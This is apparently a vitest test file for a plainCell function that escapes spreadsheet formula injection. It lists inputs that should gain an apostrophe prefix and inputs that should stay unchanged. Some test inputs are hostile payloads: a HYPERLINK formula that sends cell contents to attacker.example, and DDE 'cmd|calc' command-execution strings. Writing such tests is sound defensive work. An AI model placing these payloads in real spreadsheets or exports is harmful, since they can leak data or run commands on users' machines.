import { expect, test } from 'vitest'
import { plainCell } from './plain-cell.ts'

test.each([
  '=1+1',
  '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
  '+A1',
  '+cmd|calc',
  '+44-7700-900123',
  '-2+3',
  '--1',
  "-cmd|' /C calc'!A0",
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠SUM(A1)',
])('%j would be reckoned out and gets an apostrophe', (text) => expect(plainCell(text)).toBe(`'${text}`))

test.each([
  '',
  'Hill Haulage',
  '-5.00',
  '+5',
  '-1,234.50',
  '+44 7700 900123',
  '+44 (0)7700 900123',
  '(01327) 555014',
  'a=1',
  "'=1+1",
  ' =1',
  '–',
])('%j stays as it is', (text) => expect(plainCell(text)).toBe(text))
